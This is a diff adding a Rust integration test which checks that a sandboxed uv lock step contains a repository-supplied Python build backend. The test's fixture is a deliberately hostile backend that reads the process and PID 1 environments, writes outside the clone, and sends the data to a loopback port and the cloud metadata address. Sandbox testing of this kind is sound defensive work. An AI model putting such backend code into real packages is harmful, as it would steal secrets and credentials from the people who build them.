@@ -1313,3 +1313,143 @@ async fn a_private_registry_gets_its_token_from_a_file_and_nothing_else_sees_it(
     }
     world.stop().await;
 }
+
+/// A PEP 517 build backend kept in the repository (`backend-path`), which uv runs to read the
+/// metadata of a path dependency that declares none: repository code, run by the lock step.
+/// It tries to write outside the clone, read the worker's environment and PID 1's, and send
+/// what it found to a port on the host's loopback, directly and through the proxy variables.
+fn hostile_backend(marker: &std::path::Path, port: u16) -> String {
+    format!(
+        r#"import os, socket, urllib.request
+found = repr(dict(os.environ))
+try:
+    found += open("/proc/1/environ", "rb").read().decode(errors="replace")
+except OSError:
+    pass
+for path in [{marker:?}, "/usr/ESCAPED", os.path.expanduser("~/../../ESCAPED_HOME")]:
+    try:
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        open(path, "w").write(found)
+    except OSError:
+        pass
+try:
+    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(found.encode())
+except OSError:
+    pass
+for url in ["http://127.0.0.1:{port}/exfiltrate", "http://169.254.169.254/latest/meta-data/"]:
+    try:
+        urllib.request.urlopen(url, data=found.encode(), timeout=3)
+    except Exception:
+        pass
+
+def _dist(directory):
+    d = os.path.join(directory, "helper-1.0.0.dist-info")
+    os.makedirs(d, exist_ok=True)
+    open(os.path.join(d, "METADATA"), "w").write("Metadata-Version: 2.1\nName: helper\nVersion: 1.0.0\n")
+    return "helper-1.0.0.dist-info"
+
+def get_requires_for_build_wheel(config_settings=None):
+    return []
+
+def prepare_metadata_for_build_wheel(directory, config_settings=None):
+    return _dist(directory)
+
+def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+    raise RuntimeError("metadata is enough")
+"#
+    )
+}
+
+#[tokio::test]
+async fn a_build_backend_in_the_repository_runs_in_the_sandbox_and_reaches_nothing() {
+    let fixtures = tempfile::tempdir().unwrap();
+    let wheel_dir = fixtures.path().join("wheels");
+    wheels(&wheel_dir);
+    let marker = fixtures.path().join("escaped/MARKER");
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let pyproject = "[project]\nname = \"app\"\nversion = \"0.1.0\"\nrequires-python = \">=3.9\"\n\
+        dependencies = [\"vulnpkg>=1.0.0,<1.0.1\", \"helper\"]\n\n[tool.uv.sources]\nhelper = { path = \"helper\" }\n";
+    let helper =
+        "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n";
+    let backend = hostile_backend(&marker, port);
+    let project = tempfile::tempdir().unwrap();
+    for (file, text) in [
+        ("pyproject.toml", pyproject),
+        ("helper/pyproject.toml", helper),
+        (
+            "helper/backend.py",
+            "def get_requires_for_build_wheel(c=None):\n    return []\n",
+        ),
+    ] {
+        let path = project.path().join(file);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, text).unwrap();
+    }
+    // The fixture's lock, made with a harmless backend of the same metadata.
+    std::fs::write(
+        project.path().join("helper/backend.py"),
+        backend
+            .split("def _dist")
+            .nth(1)
+            .map(|rest| format!("import os\ndef _dist{rest}"))
+            .unwrap(),
+    )
+    .unwrap();
+    uv(project.path(), &wheel_dir, &["lock"]);
+    let lock = std::fs::read_to_string(project.path().join("uv.lock")).unwrap();
+    assert!(
+        lock.contains("name = \"helper\"\nversion = \"1.0.0\""),
+        "{lock}"
+    );
+
+    let (uv_path, find_links) = (uv_binary(), wheel_dir.to_string_lossy().into_owned());
+    let world = World::start(WorldOptions {
+        files: vec![
+            ("pyproject.toml", pyproject.to_owned()),
+            ("helper/pyproject.toml", helper.to_owned()),
+            ("helper/backend.py", backend),
+            ("uv.lock", lock.clone()),
+        ],
+        adjust: Some(Box::new(move |s| {
+            s.lockfiles.uv = uv_path;
+            s.lockfiles.python_find_links = find_links;
+            // As in production: tools may reach the registries and nothing else (the tests'
+            // world allows private addresses for its loopback git server).
+            s.sandbox.allowed_hosts = vec!["registry.invalid".to_owned()];
+        })),
+        ..Default::default()
+    })
+    .await;
+    let github = FakeGithub::with_delay(Duration::ZERO);
+    github.mount(&world.github).await;
+    let assessment = finding(&world, "vulnpkg", "PyPI", "PYSEC-2024-0004").await;
+    let id = world.request(assessment).await;
+    let op = world.wait_for_end(id, END).await;
+    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
+    assert_eq!(op["output"]["verification"]["vulnerable_left"], 0, "{op}");
+    let branch = op["output"]["branch"].as_str().unwrap();
+    let after = world.file_on_branch(branch, "uv.lock").unwrap();
+    // uv asked the backend for the helper's metadata: it ran, and only in the sandbox.
+    assert!(
+        after.contains("name = \"helper\"\nversion = \"1.0.0\""),
+        "{after}"
+    );
+    assert!(!marker.exists(), "the backend wrote outside the clone");
+    assert!(!std::path::Path::new("/usr/ESCAPED").exists());
+    assert!(
+        listener.accept().is_err(),
+        "the backend reached the host's loopback"
+    );
+    assert_eq!(
+        world
+            .git
+            .git("acme/web", &["ls-tree", "-r", "--name-only", branch])
+            .lines()
+            .filter(|f| f.contains("dist-info") || f.contains("ESCAPED"))
+            .count(),
+        0
+    );
+    world.stop().await;
+}
